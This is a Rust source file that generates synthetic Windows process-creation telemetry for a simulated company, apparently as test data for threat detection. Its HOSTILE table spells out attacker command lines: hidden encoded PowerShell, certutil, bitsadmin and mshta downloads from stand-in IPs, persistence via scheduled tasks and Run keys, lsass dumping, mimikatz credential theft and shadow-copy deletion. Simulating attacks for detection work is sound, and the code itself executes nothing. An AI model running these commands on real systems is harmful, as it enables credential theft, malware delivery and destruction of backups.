//! `DeviceProcessEvents`: programs start on laptops and servers, a few of them for no good.

use anyhow::Result;

use crate::events::rows::{Cell, Rows};
use crate::events::text::filled;
use crate::events::time::{DAY, window};
use crate::events::world::{User, World, hex};
use crate::random::Random;

/// A program: file, folder, command line (with slots) and the program that starts it.
type Program = (&'static str, &'static str, &'static str, &'static str);

const SYSTEM: &str = r"C:\Windows\System32";
const CHROME: &str = r"C:\Program Files\Google\Chrome\Application";

const ORDINARY: &[(u64, Program)] = &[
    (
        190,
        (
            "chrome.exe",
            CHROME,
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=<number>,i,<large>,<large>,262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=<number> /prefetch:1"#,
            "chrome.exe",
        ),
    ),
    (
        140,
        ("svchost.exe", SYSTEM, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "services.exe"),
    ),
    (110, ("conhost.exe", SYSTEM, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "cmd.exe")),
    (
        80,
        (
            "backgroundTaskHost.exe",
            SYSTEM,
            r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX<hex>.mca"#,
            "svchost.exe",
        ),
    ),
    (
        70,
        (
            "msedge.exe",
            r"C:\Program Files (x86)\Microsoft\Edge\Application",
            r#""msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=<number>,i,<large>,262144 https://<host>/<noun>/<number>"#,
            "explorer.exe",
        ),
    ),
    (
        60,
        (
            "powershell.exe",
            r"C:\Windows\System32\WindowsPowerShell\v1.0",
            r#"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy RemoteSigned -File "C:\ProgramData\scripts\inventory-<digit>.ps1" -Team <team>"#,
            "svchost.exe",
        ),
    ),
    (
        55,
        (
            "cmd.exe",
            SYSTEM,
            r#""cmd.exe" /c "cd /d C:\work\<noun> && run-<verb>.bat <number>""#,
            "explorer.exe",
        ),
    ),
    (
        50,
        (
            "git.exe",
            r"C:\Program Files\Git\cmd",
            "git.exe fetch --prune origin https://<host>/<team>/<noun>.git",
            "Code.exe",
        ),
    ),
    (
        45,
        (
            "node.exe",
            r"C:\Program Files\nodejs",
            r#""node.exe" C:\work\<noun>\node_modules\typescript\lib\tsserver.js --cancellationPipeName <hex>"#,
            "Code.exe",
        ),
    ),
    (
        40,
        (
            "python.exe",
            r"C:\Python313",
            r#"python.exe -m <noun>.<verb> --input \\files\<team>\<noun>-<number>.csv --model gpt-5-mini"#,
            "cmd.exe",
        ),
    ),
    (
        35,
        (
            "ms-teams.exe",
            r"C:\Program Files\WindowsApps\MSTeams",
            r#""ms-teams.exe" --autostarted --session=<hex>"#,
            "explorer.exe",
        ),
    ),
    (
        30,
        (
            "curl.exe",
            SYSTEM,
            "curl.exe -sS -o <noun>.zip https://<host>/<team>/<noun>-<number>.zip",
            "powershell.exe",
        ),
    ),
    (
        25,
        (
            "kubectl.exe",
            r"C:\tools",
            "kubectl.exe --namespace <team> get pods -l app=<noun> -o json",
            "powershell.exe",
        ),
    ),
    (
        20,
        (
            "rundll32.exe",
            SYSTEM,
            r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL input.dll",
            "explorer.exe",
        ),
    ),
    (15, ("schtasks.exe", SYSTEM, r#"schtasks.exe /query /tn "\Microsoft\Office\<noun>""#, "cmd.exe")),
    (
        12,
        (
            "certutil.exe",
            SYSTEM,
            r"certutil.exe -hashfile C:\Users\Public\Downloads\<noun>.zip SHA256",
            "cmd.exe",
        ),
    ),
    (10, ("reg.exe", SYSTEM, r#"reg.exe query "HKLM\SOFTWARE\Policies\<noun>" /s"#, "powershell.exe")),
    (8, ("net.exe", SYSTEM, r"net.exe use Z: \\files\<team> /persistent:yes", "cmd.exe")),
    (5, ("whoami.exe", SYSTEM, "whoami.exe /upn", "powershell.exe")),
];

const HOSTILE: &[(u64, Program)] = &[
    (
        20,
        (
            "powershell.exe",
            r"C:\Windows\System32\WindowsPowerShell\v1.0",
            "powershell.exe -nop -w hidden -EncodedCommand <base64>",
            "winword.exe",
        ),
    ),
    (12, ("pwsh.exe", r"C:\Program Files\PowerShell\7", "pwsh.exe -NoLogo -Enc <base64>", "cmd.exe")),
    (
        12,
        (
            "certutil.exe",
            SYSTEM,
            r"certutil.exe -urlcache -split -f http://203.0.113.<digit><digit>/<noun>.exe C:\Users\Public\<noun>.exe",
            "cmd.exe",
        ),
    ),
    (10, ("mshta.exe", SYSTEM, "mshta.exe http://198.51.100.<digit><digit>/<noun>.hta", "outlook.exe")),
    (8, ("rundll32.exe", SYSTEM, r"rundll32.exe C:\Users\Public\<noun>.dll,Start <number>", "wscript.exe")),
    (
        8,
        (
            "bitsadmin.exe",
            SYSTEM,
            r"bitsadmin.exe /transfer job<digit> http://203.0.113.<digit><digit>/<noun>.bin C:\Users\Public\<noun>.bin",
            "cmd.exe",
        ),
    ),
    (6, ("net.exe", SYSTEM, "net.exe user svc-<noun> Winter<number>! /add /domain", "cmd.exe")),
    (
        6,
        (
            "schtasks.exe",
            SYSTEM,
            r#"schtasks.exe /create /sc minute /mo 5 /tn "<noun>" /tr C:\Users\Public\<noun>.exe"#,
            "cmd.exe",
        ),
    ),
    (
        5,
        (
            "reg.exe",
            SYSTEM,
            r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v <noun> /d C:\Users\Public\<noun>.exe",
            "powershell.exe",
        ),
    ),
    (
        4,
        (
            "procdump64.exe",
            r"C:\Users\Public",
            "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\<noun>.dmp",
            "cmd.exe",
        ),
    ),
    (3, ("vssadmin.exe", SYSTEM, "vssadmin.exe delete shadows /all /quiet", "cmd.exe")),
    (
        2,
        (
            "m.exe",
            r"C:\Users\Public",
            r#"m.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
            "powershell.exe",
        ),
    ),
];

pub(super) fn event(world: &World, random: &mut Random, at: i64, rows: &mut Rows) -> Result<()> {
    let is_hostile = random.chance(40);
    let program = random.weighted(if is_hostile { HOSTILE } else { ORDINARY });
    push(world.users.pick(random), program, random, at, rows)
}

fn push(user: &User, program: Program, random: &mut Random, at: i64, rows: &mut Rows) -> Result<()> {
    let (file, folder, command, parent) = program;
    let digests = digests(file, at, random);
    let is_service = parent == "services.exe" || parent == "svchost.exe";
    let (domain, account) =
        if is_service { ("nt authority", "system") } else { ("corp", user.account.as_str()) };
    let integrity = if is_service { "System" } else { random.weighted(&[(88, "Medium"), (12, "High")]) };
    let number = |random: &mut Random, bound| i64::try_from(random.below(bound)).unwrap_or(0);
    let size = (!random.chance(3_000)).then(|| number(random, 40_000_000));
    rows.push(&[
        ("TimeGenerated", Cell::Time(at)),
        ("DeviceId", Cell::Text(&user.device_id)),
        ("DeviceName", Cell::Text(&user.device_name)),
        ("ActionType", Cell::Text("ProcessCreated")),
        ("FileName", Cell::Text(file)),
        ("FolderPath", Cell::Text(&format!(r"{folder}\{file}"))),
        ("FileSize", Cell::MaybeLong(size)),
        ("SHA256", Cell::Text(&digests)),
        ("ProcessVersionInfoCompanyName", Cell::Text(company(folder))),
        ("ProcessId", Cell::Long(number(random, 30_000) * 4)),
        ("ProcessCommandLine", Cell::Text(&filled(command, random))),
        ("ProcessIntegrityLevel", Cell::Text(integrity)),
        ("ProcessCreationTime", Cell::Time(at - number(random, 2_000_000))),
        ("AccountDomain", Cell::Text(domain)),
        ("AccountName", Cell::Text(account)),
        ("AccountUpn", Cell::Text(if is_service { "" } else { &user.principal })),
        ("AccountSid", Cell::Text(if is_service { "S-1-5-18" } else { &user.sid })),
        ("LogonId", Cell::Long(number(random, 1 << 30))),
        ("InitiatingProcessFileName", Cell::Text(parent)),
        ("InitiatingProcessFolderPath", Cell::Text(&format!(r"{SYSTEM}\{parent}"))),
        (
            "InitiatingProcessCommandLine",
            Cell::Text(&format!(r#""{parent}" -session {}"#, number(random, 5_000))),
        ),
        ("InitiatingProcessId", Cell::Long(number(random, 30_000) * 4)),
        ("IsProcessRemoteSession", Cell::Flag(random.chance(4_000))),
        ("ReportId", Cell::Long(number(random, 1 << 24))),
        ("AdditionalFields", Cell::Dynamic(&additional(folder, random))),
    ])
}

/// A program changes with its updates, about one a week, and now and then a file is met that nobody else has.
fn digests(file: &str, at: i64, random: &mut Random) -> String {
    if random.chance(20) {
        return hex(random, 64);
    }
    let name = file.bytes().fold(0, |sum: u64, byte| sum.wrapping_mul(31).wrapping_add(u64::from(byte)));
    hex(&mut Random::stream(name, window(at, 7 * DAY)), 64)
}

fn company(folder: &str) -> &'static str {
    match folder {
        CHROME => "Google LLC",
        _ if folder.starts_with(r"C:\Windows") => "Microsoft Corporation",
        _ => "",
    }
}

fn additional(folder: &str, random: &mut Random) -> String {
    let is_signed = folder != r"C:\Users\Public" && random.chance(97_000);
    let signer = if is_signed { "OsVendor" } else { "Unknown" };
    format!(
        r#"{{"SignatureStatus":"{}","SignerType":"{signer}","Tags":["{}","tier-{}"],"Elevation":{{"Type":"{}","IsAdministrator":{}}}}}"#,
        if is_signed { "Valid" } else { "Unsigned" },
        random.weighted(&[(80, "laptop"), (15, "server"), (5, "build-agent")]),
        random.below(3),
        random.weighted(&[(85, "Default"), (10, "Limited"), (5, "Full")]),
        random.chance(6_000),
    )
}
